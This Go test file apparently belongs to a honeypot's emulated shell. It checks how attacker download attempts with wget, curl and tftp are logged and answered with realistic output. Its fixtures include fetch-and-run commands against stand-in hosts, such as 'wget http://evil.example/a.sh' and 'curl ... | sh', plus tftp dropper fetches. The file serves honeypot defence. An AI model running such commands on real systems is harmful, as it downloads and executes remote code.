package shell

import (
	"errors"
	"io/fs"
	"strings"
	"testing"
	"time"
)

func downloadShell(t *testing.T, tty bool, fetch func(Download) (Fetched, error)) (*Shell, *[]Download) {
	t.Helper()
	l, _ := testPersona.Account("root")
	now := time.Date(2026, 5, 5, 10, 11, 12, 0, time.UTC)
	var seen []Download
	sh := New(Config{Persona: testPersona, Login: l, Mode: Interactive, TTY: tty, Now: func() time.Time { return now },
		OnDownload: func(d Download) (Fetched, error) {
			seen = append(seen, d)
			if fetch == nil {
				return Fetched{}, errors.New("downloads disabled")
			}
			return fetch(d)
		}})
	return sh, &seen
}

func TestDownloadsReported(t *testing.T) {
	tests := []struct {
		name, line string
		want       Download
		has        string
		status     int
	}{
		{"wget name", "cd /tmp; wget http://evil.example/a.sh", Download{"http://evil.example/a.sh", "wget", "/tmp"},
			"wget: unable to resolve host address ‘evil.example’\n", 4},
		{"wget no scheme", "wget -q 203.0.113.9/x", Download{"http://203.0.113.9/x", "wget", "/root"}, "", 4},
		{"curl ip", "curl -o /tmp/b http://203.0.113.5:8080/b", Download{"http://203.0.113.5:8080/b", "curl", "/root"},
			"curl: (7) Failed to connect to 203.0.113.5 port 8080 after 0 ms: Couldn't connect to server\n", 7},
		{"tftp busybox", "tftp -g -r mips 198.51.100.1", Download{"tftp://198.51.100.1/mips", "tftp", "/root"},
			"-bash: tftp: command not found\n", 127},
		{"tftp hpa", "tftp 198.51.100.1 -c get bins.sh", Download{"tftp://198.51.100.1/bins.sh", "tftp", "/root"}, "", 127},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			sh, seen := downloadShell(t, true, nil)
			out := run(sh, tc.line)
			if len(*seen) != 1 || (*seen)[0] != tc.want {
				t.Errorf("downloads %+v, want %+v", *seen, tc.want)
			}
			if !strings.Contains(out, tc.has) {
				t.Errorf("output %q lacks %q", out, tc.has)
			}
			if sh.Status() != tc.status {
				t.Errorf("status %d, want %d", sh.Status(), tc.status)
			}
			if strings.Contains(out, "saved") || strings.Contains(out, "100%") {
				t.Errorf("failed download claims success: %q", out)
			}
		})
	}
}

func TestDownloadEnabled(t *testing.T) {
	body := "#!/bin/sh\necho pwned\n"
	fetch := func(d Download) (Fetched, error) {
		if strings.HasSuffix(d.URL, "/missing") {
			return Fetched{Status: 404}, nil
		}
		return Fetched{Status: 200, ContentType: "application/x-sh", Body: []byte(body), RemoteIP: "192.0.2.10"}, nil
	}
	sh, _ := downloadShell(t, true, fetch)
	out := run(sh, "cd /tmp; wget http://cdn.example/x.sh")
	for _, want := range []string{
		"--2026-05-05 10:11:12--  http://cdn.example/x.sh\n",
		"Resolving cdn.example (cdn.example)... 192.0.2.10\n",
		"Connecting to cdn.example (cdn.example)|192.0.2.10|:80... connected.\n",
		"HTTP request sent, awaiting response... 200 OK\n",
		"Length: 21 [application/x-sh]\n",
		"Saving to: ‘x.sh’\n",
		"‘x.sh’ saved [21/21]\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("wget output lacks %q:\n%s", want, out)
		}
	}
	if got := run(sh, "cat x.sh"); got != body {
		t.Errorf("saved file %q", got)
	}
	if got := run(sh, "chmod +x x.sh; ./x.sh"); got != "pwned\n" {
		t.Errorf("running the download printed %q", got)
	}
	if out := run(sh, "wget http://cdn.example/x.sh"); !strings.Contains(out, "Saving to: ‘x.sh.1’") {
		t.Errorf("second wget: %s", out)
	}
	if out := run(sh, "wget http://cdn.example/missing"); !strings.Contains(out, "ERROR 404: Not Found.") || sh.Status() != 8 {
		t.Errorf("404: %s (status %d)", out, sh.Status())
	}
	if out := run(sh, "curl -s http://cdn.example/x.sh | sh"); out != "pwned\n" {
		t.Errorf("curl | sh printed %q", out)
	}
	if out := run(sh, "curl -sfO http://cdn.example/missing"); out != "" || sh.Status() != 22 {
		t.Errorf("curl -f 404: %q status %d", out, sh.Status())
	}
	if out := run(sh, "wget -O - http://cdn.example/x.sh 2>/dev/null"); out != body {
		t.Errorf("wget -O -: %q", out)
	}
}

func TestTransfer(t *testing.T) {
	sh := newTestShell(t, testPersona.User, Interactive)
	tr := sh.Transfer()
	home := tr.Home()
	if err := tr.WriteFile("up.bin", []byte("data"), 0, 0o600); err != nil {
		t.Fatal(err)
	}
	if out := run(sh, "ls -l up.bin"); !strings.HasPrefix(out, "-rw------- 1 "+testPersona.User) {
		t.Errorf("ls -l: %q", out)
	}
	fi, err := tr.Stat(home + "/up.bin")
	if err != nil || fi.Size != 4 || fi.UID != 1000 || fi.Dir {
		t.Errorf("stat %+v %v", fi, err)
	}
	if err := tr.WriteFile("/etc/evil", []byte("x"), 0, 0o644); !errors.Is(err, fs.ErrPermission) {
		t.Errorf("user wrote /etc: %v", err)
	}
	if _, err := tr.ReadFile("/nonexistent"); !errors.Is(err, fs.ErrNotExist) || Strerror(err) != "No such file or directory" {
		t.Errorf("read missing: %v %q", err, Strerror(err))
	}
	if err := tr.Mkdir("d", 0o700); err != nil {
		t.Fatal(err)
	}
	if err := tr.Rename("up.bin", "d/up2.bin"); err != nil {
		t.Fatal(err)
	}
	ents, err := tr.ReadDir("d")
	if err != nil || len(ents) != 1 || ents[0].Name != "up2.bin" {
		t.Fatalf("readdir %+v %v", ents, err)
	}
	if ln := ents[0].LongName(tr.Now()); !strings.HasPrefix(ln, "-rw-------   1 "+testPersona.User) || !strings.HasSuffix(ln, " up2.bin") {
		t.Errorf("longname %q", ln)
	}
	if err := tr.Remove("d", true); !errors.Is(err, fs.ErrExist) && Strerror(err) != "Directory not empty" {
		t.Errorf("rmdir non-empty: %v", err)
	}
	// A large upload keeps its start and shows its size.
	big := make([]byte, maxWrite+10)
	if err := tr.WriteFile("/tmp/big", big, int64(len(big)), 0o644); err != nil {
		t.Fatal(err)
	}
	if fi, _ := tr.Stat("/tmp/big"); fi.Size != int64(len(big)) {
		t.Errorf("big size %d", fi.Size)
	}
}
